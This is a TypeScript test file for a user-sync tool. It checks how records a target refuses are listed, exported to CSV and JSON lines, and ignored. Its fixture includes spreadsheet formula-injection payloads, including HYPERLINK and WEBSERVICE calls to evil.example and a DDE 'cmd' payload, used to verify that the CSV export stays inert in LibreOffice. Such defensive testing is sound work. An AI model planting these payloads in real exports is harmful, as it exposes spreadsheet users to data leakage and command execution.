import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, test } from "node:test";
import { promisify } from "node:util";
import type { GraphUser } from "@entrain/simulator";
import { libreOfficeAvailable, skipUnless } from "../../../../../test/servers.ts";
import { syncStatus } from "../queries.ts";
import { scimUser } from "../testing/observe.ts";
import { openScene, type Scene } from "../testing/scene.ts";
import { person } from "../testing/tenant.ts";
import { DAY, MINUTE, type TestClock, testClock } from "../testing/time.ts";
import { unsyncedRecords } from "./unsynced.ts";
import { heedRecords, ignoreRecords } from "./unsynced-commands.ts";
import { unsyncedCsv, unsyncedJsonLines } from "./unsynced-export.ts";

const PEOPLE = 200;
const actor = { kind: "operator", id: "ada" } as const;
/** Several reasons, each for another person; some names and answers are what a spreadsheet would compute. */
const REFUSALS = [
  { name: '=HYPERLINK("http://evil.example?"&A1;"Ana")', status: 400, detail: "The title is too long." },
  { name: "+1+1", status: 409, detail: "Another account has this number." },
  { name: "-2+3+cmd|' /C calc'!A0", status: 403, detail: "Administrators cannot be changed." },
  { name: "@SUM(1+1)", status: 422, detail: '=WEBSERVICE("http://evil.example")' },
  { name: 'Quote " and, comma', status: 501, detail: "Titles are not supported\r\nhere." },
  // What computes where another separator, or a line break, cuts the cell in two.
  { name: 'a;=HYPERLINK("http://evil.example";"click");b', status: 422, detail: "Cut;=1+1\tor\t+2+2|-3+3" },
  { name: 'a; "=2+3" ;"" =4+4', status: 422, detail: 'Or "so" ;"=1+1"' },
  { name: "Ünï Çode", status: 500, detail: "Something broke." },
] as const;

let scene: Scene;
let clock: TestClock;
let sync: string;
let refused: readonly GraphUser[];
afterEach(() => scene?.close());

/** Everybody gets another title, which the target refuses of eight people in two hundred. */
async function refuseSome(): Promise<Awaited<ReturnType<Scene["run"]>>> {
  clock = testClock();
  refused = REFUSALS.map(({ name }, at) => person(`Refused ${at}`, { displayName: name }));
  const others = Array.from({ length: PEOPLE - refused.length }, (_, at) => person(`Person ${at + 1000}`));
  const users = [...refused, ...others];
  scene = await openScene({ clock, simulator: { tenant: { users, groups: [] } } });
  const all = { percent: 100, count: 100_000, windowMs: DAY };
  const guard = { removals: all, members: all, creations: all, updates: all };
  sync = await scene.addSync("people", "scim", { records: "user", guard });
  assert.equal((await scene.run(sync)).counts.create, PEOPLE);
  const faults: ReadonlyMap<string, (typeof REFUSALS)[number] | undefined> = new Map(
    refused.map(({ id }, at) => [`/Users/${String(scimUser(scene.scim, String(id))?.id)}`, REFUSALS[at]] as const),
  );
  scene.disturb(({ method, path }) => {
    const fault = method === "PATCH" || method === "PUT" ? faults.get(path) : undefined;
    return fault === undefined ? null : { status: fault.status, body: JSON.stringify({ detail: fault.detail }) };
  });
  for (const { id } of users) await scene.graph("PATCH", `/users/${String(id)}`, { jobTitle: "Chief" });
  return await scene.run(sync);
}

async function textOf(pieces: AsyncGenerator<string>): Promise<string> {
  let text = "";
  for await (const piece of pieces) text += piece;
  return text;
}

test("of a target that refuses four in a hundred for several reasons the others are in step, and those are listed with a sentence", async () => {
  const run = await refuseSome();
  assert.deepEqual([run.result, run.counts.update, run.failed], ["partial", PEOPLE - 8, 8]);
  const listed = await unsyncedRecords(scene.store, { sync, limit: 100 });
  assert.deepEqual(listed.map(({ id }) => id).sort(), refused.map(({ id }) => String(id)).sort());
  for (const [at, { detail }] of REFUSALS.entries()) {
    const view = listed.find(({ id }) => id === refused[at]?.id);
    const said = view?.sentence ?? "";
    // What happened, to whom, why, what comes next, and what to do.
    assert.ok(said.startsWith(`${REFUSALS[at]?.name} (`), said);
    assert.match(said, /is not in step: the target (refused its change|did not carry its change out)\. /);
    assert.ok(said.includes(detail.replaceAll(/\s+/g, " ").slice(0, 20)), said);
    assert.match(said, /It is tried again at 2031-03-03 08:\d\d UTC\. \S/);
  }
  const filtered = await unsyncedRecords(scene.store, { sync, limit: 100, filter: { text: "ÜNÏ" } });
  assert.deepEqual(
    filtered.map(({ name }) => name),
    ["Ünï Çode"],
  );
  // Whoever answered with a fault did answer, and what it said finds the record.
  const words = { sync, limit: 100, filter: { text: "something BROKE" } } as const;
  const [failed, ...more] = await unsyncedRecords(scene.store, words);
  assert.deepEqual([failed?.code, more.length], ["outcome_unknown", 0]);
  assert.match(
    failed?.detail ?? "",
    /^The user \S+: The server answered 500: Something broke\. The change did not take effect\.$/,
  );
  assert.deepEqual((await syncStatus(scene.store, sync))?.quarantine, null);

  scene.disturb(null);
  clock.advance(5 * MINUTE);
  const mended = await scene.run(sync);
  assert.deepEqual([mended.result, mended.counts.update], ["succeeded", 8]);
  assert.deepEqual(await unsyncedRecords(scene.store, { sync, limit: 100, filter: { state: "all" } }), []);
});

test("the CSV of unsynced records follows RFC 4180, and a line of JSON holds the same", async () => {
  await refuseSome();
  const csv = await textOf(unsyncedCsv(scene.store, { sync, bom: true }));
  assert.ok(csv.startsWith("\uFEFFName,User principal name,Object id,State,"));
  assert.equal(csv.split("\r\n").length, 1 + 8 + 1);
  assert.ok(csv.includes('"Quote "" and, comma",'));
  assert.ok(csv.includes("\r\n'+1+1,"));
  assert.doesNotMatch(csv, /(^|,|\n)"?[=+@-]/m);
  const lines = (await textOf(unsyncedJsonLines(scene.store, { sync }))).trimEnd().split("\n");
  const names = lines.map((line) => (JSON.parse(line) as { readonly name: string }).name);
  assert.deepEqual(names.sort(), REFUSALS.map(({ name }) => name).sort());
});

test("a spreadsheet that opens the CSV of unsynced records computes nothing", {
  skip: skipUnless("libreoffice"),
}, async () => {
  await refuseSome();
  const folder = await mkdtemp(join(tmpdir(), "entrain-sheet-"));
  try {
    const csv = await textOf(unsyncedCsv(scene.store, { sync, bom: true }));
    for (const separators of SEPARATORS) {
      const opened = await openInSpreadsheet(folder, "unsynced", csv, separators);
      assert.deepEqual(opened.match(/table:formula="[^"]*"/g), null, separators);
      assert.ok(opened.includes("Ünï Çode"));
    }
    const opened = await openInSpreadsheet(folder, "unsynced", csv);
    for (const text of ["'+1+1", "'@SUM(1+1)"])
      assert.ok(opened.includes(text) || opened.includes(text.slice(1)), text);
    // The same names as they are would be computed.
    const naive = await openInSpreadsheet(
      folder,
      "naive",
      `Name\r\n${REFUSALS.map(({ name }) => name).join("\r\n")}\r\n`,
    );
    assert.match(naive, /table:formula="/);
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
});

/** Comma, semicolon, tab, bar, and what LibreOffice takes together unless it is told otherwise; as its filter wants them. */
const SEPARATORS = ["44", "59", "9", "124", "44/59/9"] as const;

/** What LibreOffice holds after it opened a CSV file, as flat XML. */
async function openInSpreadsheet(folder: string, name: string, csv: string, separators = "44"): Promise<string> {
  const office = libreOfficeAvailable();
  assert.ok(office.available);
  await writeFile(join(folder, `${name}.csv`), csv);
  const own = `-env:UserInstallation=file://${join(folder, "profile")}`;
  // Double quote, UTF-8, from the first line on.
  const way = ["--headless", own, `--infilter=CSV:${separators},34,76,1`, "--convert-to", "fods", "--outdir", folder];
  await promisify(execFile)(office.executable, [...way, join(folder, `${name}.csv`)], { timeout: 120_000 });
  return await readFile(join(folder, `${name}.fods`), "utf8");
}

test("ignored records are told apart, count in no run, and are tried when they change", async () => {
  await refuseSome();
  const [ana, bo] = refused.map(({ id }) => String(id));
  assert.ok(ana !== undefined && bo !== undefined);
  await ignoreRecords(scene.store, sync, { actor, records: [ana], note: "Leaves in May." });
  const { unsynced, ignored } = (await syncStatus(scene.store, sync)) ?? {};
  assert.deepEqual([unsynced, ignored], [7, 1]);
  const [view, ...more] = await unsyncedRecords(scene.store, { sync, limit: 10, filter: { state: "ignored" } });
  assert.deepEqual([view?.id, view?.retryAt, more.length], [ana, null, 0]);
  assert.match(view?.sentence ?? "", /ada has it ignored: Leaves in May\./);
  assert.doesNotMatch(`${view?.sentence} ${view?.fix}`, /tried again later/);
  assert.match(view?.fix ?? "", /`entrain sync ignore people --record \S+ --undo`/);
  clock.advance(DAY);
  assert.equal((await scene.run(sync)).failed, 7);
  await scene.graph("PATCH", `/users/${ana}`, { jobTitle: "Boss" });
  clock.advance(1000);
  const changed = await scene.run(sync);
  // It was tried, and refused for what is ignored.
  assert.deepEqual([changed.failed, changed.result], [0, "succeeded"]);
  assert.equal(await heedRecords(scene.store, sync, { actor, records: [ana, bo] }), 1);
  assert.equal((await scene.run(sync)).failed, 1);
  const types = await scene.store.db.selectFrom("journal").select("type").where("object_id", "=", ana).execute();
  assert.deepEqual(
    types.map(({ type }) => type).filter((type) => type.startsWith("ignored")),
    ["ignored", "ignored no more"],
  );
  await assert.rejects(ignoreRecords(scene.store, sync, { actor, records: ["nobody"], note: "x" }), {
    code: "not_found",
  });
});

test("an issue of the mapping that somebody ignores makes no run partial", async () => {
  clock = testClock();
  const nameless = person("Nameless", { employeeId: null });
  scene = await openScene({ clock, simulator: { tenant: { users: [nameless], groups: [] } } });
  sync = await scene.addSync("people", "scim", { records: "user" });
  const { mapping } = JSON.parse(
    (await scene.store.db.selectFrom("syncs").select("definition").executeTakeFirstOrThrow()).definition,
  );
  await scene.redefine(sync, { mapping: { ...mapping, userName: { direct: "employeeId" } } });
  const first = await scene.run(sync);
  assert.equal(first.result, "partial", JSON.stringify(first));
  await ignoreRecords(scene.store, sync, { actor, records: [String(nameless.id)], note: "A test account." });
  assert.equal((await scene.run(sync)).result, "succeeded");
  await scene.graph("PATCH", `/users/${String(nameless.id)}`, { jobTitle: "Boss" });
  const again = await scene.run(sync);
  assert.deepEqual([again.result, again.failed], ["succeeded", 0]);
  assert.equal((await syncStatus(scene.store, sync))?.ignored, 1);
});
